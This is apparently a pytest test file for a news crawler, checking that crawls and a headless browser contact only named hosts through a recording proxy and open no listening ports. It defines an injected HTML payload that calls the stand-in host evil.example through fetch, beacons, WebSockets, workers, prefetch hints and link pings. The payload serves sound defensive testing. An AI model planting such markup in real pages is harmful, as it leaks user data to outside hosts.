"""Requests reach only the named hosts, which a proxy records, and no port is open to other machines."""

import http.server
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from finews_spider.downloadhandlers import browser
from tests.misbehave import MisbehavingUpstream
from tests.proxy import Proxy
from tests.running import ROOT, Runner, wait_for
from tests.servers import missing


@pytest.fixture
def upstream():
    with MisbehavingUpstream(articles=10, seed=13) as upstream:
        yield upstream


@pytest.fixture
def redirecting(upstream):
    """Return the URL of a server that redirects every request to the upstream by another host name."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", upstream.url.replace("127.0.0.1", "localhost") + self.path)
            self.end_headers()

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_a_redirect_to_a_host_that_is_not_named_is_refused(tmp_path, upstream, redirecting):
    finews = Runner(tmp_path, upstream)
    channels = tmp_path / "channels.toml"
    channels.write_text(channels.read_text("utf-8").replace(upstream.url, redirecting), "utf-8")
    done = finews("run", code=1)
    assert not upstream.log
    assert "this crawl may not reach the host localhost; see FINEWS_ALLOWED_HOSTS" in done.stderr


def test_a_host_that_is_named_is_reached(tmp_path, upstream, redirecting):
    finews = Runner(tmp_path, upstream, FINEWS_ALLOWED_HOSTS="localhost")
    channels = tmp_path / "channels.toml"
    channels.write_text(channels.read_text("utf-8").replace(upstream.url, redirecting), "utf-8")
    finews("run")
    assert finews.summary().articles == 10


NAMED = {f"{part}.example" for part in ("list", "text", "article", "page", "share")}
EVIL = (
    b"<script>fetch('http://evil.example/f').catch(() => 0); new Image().src = 'https://evil.example/i';"
    b"navigator.sendBeacon('http://evil.example/b', 'x'); open('http://evil.example/w');"
    b"new WebSocket('ws://evil.example/s'); new Worker('http://evil.example/k')</script>"
    b"<img src='http://evil.example/i.png'><iframe src='http://evil.example/'></iframe>"
    b"<link rel=preconnect href='http://evil.example'><link rel=dns-prefetch href='//evil.example'>"
    b"<link rel=prefetch href='http://evil.example/p'><link rel=stylesheet href='http://evil.example/c.css'>"
    b"<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('ws://evil.example/t')</script>\"></iframe>"
    b'<script type=speculationrules>{"prefetch":[{"urls":["http://evil.example/r"],"eagerness":"immediate"}]}</script>'
    b"<a id=a ping='http://evil.example/g' href='#a'></a><script>document.getElementById('a').click();"
    b"onpagehide = () => fetch('http://evil.example/u', {keepalive: true, method: 'POST', mode: 'no-cors'})</script>"
)
WITNESS = """
import os, sys
def hook(event, arguments):
    if event in {"socket.connect", "socket.getaddrinfo", "socket.sendto"}:
        with open(os.environ["WITNESS"], "a") as file:
            print(arguments[1] if event != "socket.getaddrinfo" else arguments[:2], file=file)
sys.addaudithook(hook)
"""
"""Used as sitecustomize.py: every interpreter records the addresses to which it connects."""


def spoilt(host, body):
    return body.replace(b"</body>", EVIL + b"</body>") if host in {"share.example", "page.example"} else body.replace(
        b"<p>", b"<p><img src='http://evil.example/i.png'><a href='http://evil.example/a/202601020000000001.html'>x</a>", 1
    )  # fmt: skip


@pytest.fixture
def proxied(tmp_path, upstream):
    """Return a user's folder whose crawls use a proxy and host names that don't resolve, and the proxy."""
    with Proxy(upstream.url, spoilt) as proxy:
        finews = Runner(
            tmp_path, upstream, fresh=True, FINEWS_IMAGES="local", http_proxy=proxy.url, https_proxy=proxy.url
        )
        for part, name in zip(("text", "article", "page", "share"), upstream.settings(), strict=True):
            finews.settings[name] = upstream.settings()[name].replace(upstream.url, f"http://{part}.example")
        channels = tmp_path / "channels.toml"
        channels.write_text(channels.read_text("utf-8").replace(upstream.url, "http://list.example"), "utf-8")
        (tmp_path / "sitecustomize.py").write_text(WITNESS)
        finews.settings |= {"PYTHONPATH": f"{tmp_path}:{ROOT}", "WITNESS": str(tmp_path / "witness"), "no_proxy": ""}
        yield finews, proxy
        turned_to = set((tmp_path / "witness").read_text().splitlines())
        port = int(proxy.url.rpartition(":")[2])
        assert turned_to <= {str(("127.0.0.1", port)), str(("127.0.0.1", str(port)))}


def test_a_crawl_requests_only_named_hosts_of_the_proxy(proxied):
    finews, proxy = proxied
    finews("run")
    assert finews.summary().articles == 10
    assert set(proxy.hosts) == {"list.example", "text.example"}


def test_no_redirect_or_link_leads_a_crawl_to_another_host(proxied, upstream):
    finews, proxy = proxied
    upstream.misbehave("text", "html")
    upstream.misbehave("article", "500")
    for host in ("page.example", "share.example"):
        proxy.redirects[host] = "http://evil.example/"
    finews("run", code=1)
    assert {"page.example", "article.example"} <= set(proxy.hosts) <= NAMED


def test_the_browser_requests_only_named_hosts_of_the_proxy(proxied, upstream):
    if not (chromium := next(filter(None, map(shutil.which, browser.PROGRAMS)), None)):
        missing("chromium", "there is no browser")
    finews, proxy = proxied
    codes = ",".join(upstream.news.codes[:3])
    finews(
        "scrapy", "crawl", "newsshare", f"-alinks={codes}", "-arender=browser",
        FINEWS_CHROMIUM=chromium, FINEWS_STORE=finews.store,
    )  # fmt: skip
    assert finews.summary().articles == 3
    assert "share.example" in proxy.hosts
    assert set(proxy.hosts) <= NAMED


def listening(process: int) -> set[str]:
    """Return the addresses at which a process, or one that it started, accepts connections; IPv4 addresses are in hexadecimal."""
    inodes = {
        link.readlink().name for link in Path(f"/proc/{process}/fd").iterdir() if "socket:" in str(link.readlink())
    }
    rows = [row.split() for name in ("tcp", "tcp6") for row in Path(f"/proc/net/{name}").read_text().splitlines()[1:]]
    return {row[1].partition(":")[0] for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in inodes}


needs_proc = pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="there is no /proc to ask")


@needs_proc
def test_the_sample_upstream_listens_on_loopback_only():
    command = [sys.executable, "-m", "finews_spider.sample", "--articles", "5"]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert "http://127.0.0.1" in process.stdout.readline()
            assert listening(process.pid) == {"0100007F"}
        finally:
            process.kill()


@needs_proc
def test_a_crawl_listens_on_no_port(tmp_path):
    with MisbehavingUpstream(articles=10, seed=13, delay=3) as upstream:
        process = Runner(tmp_path, upstream, fresh=True).start("run")
        try:
            wait_for(lambda: upstream.log)
            assert listening(process.pid) == set()
        finally:
            process.kill()
            process.communicate()
